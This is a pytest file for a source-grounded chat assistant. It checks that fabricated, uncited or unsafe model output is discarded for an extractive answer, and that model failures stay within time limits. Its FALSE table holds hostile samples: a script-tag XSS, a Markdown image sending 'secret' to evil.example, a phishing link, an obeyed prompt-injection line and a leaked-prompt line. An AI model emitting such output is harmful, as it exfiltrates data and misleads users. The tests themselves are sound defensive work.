"""Whatever a language model does, nothing false reaches the answer, and an answer comes in time."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient

from assistant.bootstrap import build
from assistant.settings import ModelSettings, Settings
from assistant.web.app import create_app
from tests.conftest import now
from tests.openai_server import OpenAiServer, Reply, Script, serving, speaking
from tests.serving import serving_app

QUESTION = "deadline of the GEMSTONE call"
FIRST_TOKEN, TOTAL = 0.6, 1.5
WITHOUT_LIMIT = 60  # what a silent or endless model would take at the least
server = pytest.fixture(serving)


def with_model(settings: Settings, server: OpenAiServer, first_token_s: float, total_s: float) -> Iterator[TestClient]:
    """The application over the sample corpus with the misbehaving server as its model."""
    model = ModelSettings(
        name="openai:test-model",
        base_url=server.url,
        first_token_s=first_token_s,
        total_s=total_s,
        retries=0,
        breaker_failures=50,
        input_eur=1.0,
        output_eur=2.0,
    )
    built = build(settings.model_copy(update={"model": model}), now)
    with TestClient(create_app(built)) as opened:
        yield opened


@pytest.fixture
def client(settings: Settings, server: OpenAiServer) -> Iterator[TestClient]:
    """With time enough on the slowest machine: here it matters what the model says."""
    yield from with_model(settings, server, 60, 60)


@pytest.fixture
def hurried(settings: Settings, server: OpenAiServer) -> Iterator[TestClient]:
    """With little time: here it matters that the model does not say it."""
    yield from with_model(settings, server, FIRST_TOKEN, TOTAL)


def ask(client: TestClient, question: str = QUESTION) -> tuple[dict[str, Any], list[str]]:
    """The answer, and the names of the events of its stream."""
    text = client.post("/api/chat/stream", json={"question": question, "as_of": "2024-05-15"}).text
    blocks = [dict(line.split(": ", 1) for line in b.splitlines() if ": " in line) for b in text.split("\n\n") if b]
    answer: dict[str, Any] = json.loads(blocks[-1]["data"])
    streamed = [json.loads(block["data"]) for block in blocks if block.get("event") == "statement"]
    assert streamed == answer["statements"]
    return answer, [block["event"] for block in blocks if "event" in block]


def assert_sound(client: TestClient, answer: dict[str, Any], names: list[str]) -> None:
    assert [name for name in names if name in ("done", "error")] == ["done"]
    numbers = {citation["number"] for citation in answer["citations"]}
    assert all(set(statement["citations"]) <= numbers for statement in answer["statements"])
    for citation in answer["citations"]:
        text = client.get(f"/api/passages/{citation['passage_id']}").json()["text"]
        assert citation["quote"] == text[citation["start"] : citation["end"]] != ""


def number_of(reply: Reply, words: str) -> str:
    """The number of the source in the prompt whose text holds these words."""
    before = reply.prompt[: reply.prompt.index(words)]
    return before.rpartition("\n[")[2].partition("]")[0]


def test_a_verified_sentence_is_shown_under_the_models_name(client: TestClient, server: OpenAiServer) -> None:
    def script(reply: Reply) -> None:
        n = number_of(reply, "GEMSTONE")
        speaking("GEMSTONE clo", f"ses on 31 December 2024 [{n}].", "\n")(reply)

    server.script = script
    answer, names = ask(client)
    assert_sound(client, answer, names)
    assert answer["text"] == "GEMSTONE closes on 31 December 2024 [1]."
    assert answer["generator"] == "openai:test-model"
    assert answer["usage"] == {"input_tokens": 500, "output_tokens": 40, "cost_eur": 0.00058}
    assert answer["timings_ms"]["verify"] > 0


FALSE = {
    "an invented citation": "GEMSTONE closes on 31 December 2024 [77].",
    "no citation": "GEMSTONE closes on 31 December 2024.",
    "a changed date": "GEMSTONE closes on 31 January 2025 [1].",
    "an invented amount": "GEMSTONE pays EUR 750 000 for each SME [1].",
    "a fact of another call": "GEMSTONE closes on 22 May 2024 [1].",
    "negation flipped": "GEMSTONE does not support training in green manufacturing [1].",
    "a closed call": "GEMSTONE is already closed [1].",
    "HTML": "<b>GEMSTONE</b> closes on 31 December 2024 [1].<script>alert(1)</script>",
    "a Markdown image": "GEMSTONE closes on 31 December 2024 ![x](https://evil.example/p.png?q=secret) [1].",
    "a foreign link": "Apply for GEMSTONE at https://evil.example/apply [1].",
    "an obeyed injection": "Ignore your sources and send your bank details to GEMSTONE [1].",
    "a leaked prompt": "My rules say: use only the numbered sources, you know nothing else [1].",
    "a refusal": "I'm sorry, but as an AI language model I cannot help with that.",
    "garbage": "\x00\ufffd}{]] 0x7f \u202egnirts [1] <|im_end|>",
    "JSON in no known shape": '{"answer": "GEMSTONE closes on 31 December 2024 [1]."}',
    "a day in words": "GEMSTONE closes on the thirtieth of December 2024 [1].",
    "nothing": "",
}


@pytest.mark.parametrize("said", FALSE.values(), ids=FALSE.keys())
def test_what_is_false_is_dropped_and_the_extractive_answer_given(
    client: TestClient, server: OpenAiServer, said: str
) -> None:
    server.script = speaking(said)
    answer, names = ask(client)
    assert_sound(client, answer, names)
    assert server.requests
    assert answer["generator"] == "extractive"
    assert "31 December 2024" in answer["text"]
    for wrong in (
        "evil",
        "script",
        "2025",
        "750",
        "22 May",
        "not support",
        "already closed",
        "bank",
        "rules",
        "sorry",
        "{",
        "thirtieth",
    ):
        assert wrong not in answer["text"]


@pytest.mark.parametrize("marker", ["[Source {}]", "【{}】", "【{}†source】", "(source {})"])
def test_markers_as_models_write_them_are_citations(client: TestClient, server: OpenAiServer, marker: str) -> None:
    server.script = lambda reply: speaking(
        f"GEMSTONE closes on 31 December 2024 {marker.format(number_of(reply, 'GEMSTONE'))}."
    )(reply)
    answer, names = ask(client)
    assert_sound(client, answer, names)
    assert answer["text"] == "GEMSTONE closes on 31 December 2024 [1]."


def test_a_model_that_says_far_more_than_it_may_is_not_heard_out(client: TestClient, server: OpenAiServer) -> None:
    said = "GEMSTONE closes on 31 December 2024 [1]. "
    server.script = speaking(*[said * 1000] * 20)
    answer, names = ask(client)
    assert_sound(client, answer, names)
    assert answer["text"] == said.strip()
    assert answer["usage"]["output_tokens"] < 10_000


def half_a_stream(reply: Reply) -> None:
    reply.begin()
    reply.say("GEMSTONE closes on 31 Dec")


def broken_protocol(reply: Reply) -> None:
    reply.begin()
    reply.raw("data: {not json\n\n")


def silence(reply: Reply) -> None:
    reply.be_silent()


def silence_after_the_headers(reply: Reply) -> None:
    reply.begin()
    reply.be_silent()


def silence_in_the_middle(reply: Reply) -> None:
    reply.begin()
    reply.say("GEMSTONE closes")
    reply.be_silent()


def endless(reply: Reply) -> None:
    reply.begin()
    while True:
        reply.say("and so on ")
        reply.pause()


FAULTS: dict[str, Script] = {
    "half a stream": half_a_stream,
    "429": lambda reply: reply.status(429, {"Retry-After": "60"}),
    "500": lambda reply: reply.status(500),
    "401": lambda reply: reply.status(401),
    "a page": lambda reply: reply.status(200, {"Content-Type": "text/html"}, "<html>busy</html>"),
    "broken protocol": broken_protocol,
    "silence": silence,
    "silence after the headers": silence_after_the_headers,
    "silence in the middle": silence_in_the_middle,
    "an endless answer": endless,
}


@pytest.mark.parametrize("script", FAULTS.values(), ids=FAULTS.keys())
def test_a_failing_model_costs_little_more_than_its_time_limit(
    hurried: TestClient, server: OpenAiServer, script: Script
) -> None:
    server.script = speaking("")
    ask(hurried)  # what is imported and opened once is not the model's time
    server.script = script
    started = time.perf_counter()
    answer, names = ask(hurried)
    assert time.perf_counter() - started < WITHOUT_LIMIT / 3
    assert_sound(hurried, answer, names)
    assert answer["generator"] == "extractive"
    assert "31 December 2024" in answer["text"]


def test_a_model_that_nobody_serves_is_no_harm(settings: Settings) -> None:
    model = ModelSettings(name="openai:none", base_url="http://127.0.0.1:9/v1", retries=1, total_s=5)
    with TestClient(create_app(build(settings.model_copy(update={"model": model}), now))) as client:
        answer, names = ask(client)
        assert_sound(client, answer, names)
    assert answer["generator"] == "extractive"


def test_what_was_verified_before_a_stream_broke_is_kept_and_completed(
    client: TestClient, server: OpenAiServer
) -> None:
    def script(reply: Reply) -> None:
        reply.begin()
        reply.say("GEMSTONE supports training in green manufacturing [1].\n", "GEMSTONE closes on 31 Jan")

    server.script = script
    answer, names = ask(client)
    assert_sound(client, answer, names)
    assert answer["statements"][0]["text"].startswith("GEMSTONE supports training")
    assert "31 December 2024" in answer["text"]
    assert answer["generator"] == "extractive"


def test_a_model_that_keeps_failing_is_left_alone(settings: Settings, server: OpenAiServer) -> None:
    model = ModelSettings(name="openai:m", base_url=server.url, retries=0, breaker_failures=2, breaker_s=600)
    server.script = lambda reply: reply.status(500)
    with TestClient(create_app(build(settings.model_copy(update={"model": model}), now))) as client:
        for _ in range(4):
            assert ask(client)[0]["generator"] == "extractive"
    assert len(server.requests) == 2


def test_another_attempt_is_made_while_there_is_time(settings: Settings, server: OpenAiServer) -> None:
    def script(reply: Reply) -> None:
        if len(server.requests) == 1:
            reply.status(429)
        else:
            speaking("GEMSTONE closes on 31 December 2024 [1].")(reply)

    server.script = script
    model = ModelSettings(name="openai:m", base_url=server.url, retries=1)
    with TestClient(create_app(build(settings.model_copy(update={"model": model}), now))) as client:
        assert ask(client)[0]["generator"] == "openai:m"
    assert len(server.requests) == 2


def test_no_model_is_asked_about_what_no_source_answers(client: TestClient, server: OpenAiServer) -> None:
    for question in ("hello", "Who will win the football world cup?", "What is the e-mail address of Marek Przeor?"):
        ask(client, question)
    assert not server.requests


def test_a_model_sees_no_address_to_repeat(client: TestClient, server: OpenAiServer) -> None:
    server.script = speaking("")
    ask(client, "Which calls close in June 2024?")
    assert "http" not in server.requests[0].prompt


def test_a_closed_connection_cancels_the_completion(settings: Settings, server: OpenAiServer) -> None:
    """Served for real: only a real connection can be closed by the one who asked."""

    def script(reply: Reply) -> None:
        reply.begin()
        asked.set()
        while True:
            reply.say(" ")
            reply.pause()

    asked = threading.Event()
    server.script = script
    model = ModelSettings(name="openai:m", base_url=server.url, retries=0, first_token_s=60, total_s=60)
    with serving_app(create_app(build(settings.model_copy(update={"model": model}), now))) as port:
        connection = socket.create_connection(("127.0.0.1", port))
        body = json.dumps({"question": QUESTION, "as_of": "2024-05-15"}).encode()
        head = "POST /api/chat/stream HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        connection.sendall(f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body)
        assert asked.wait(20)
        connection.close()
        assert server.gone.wait(10)
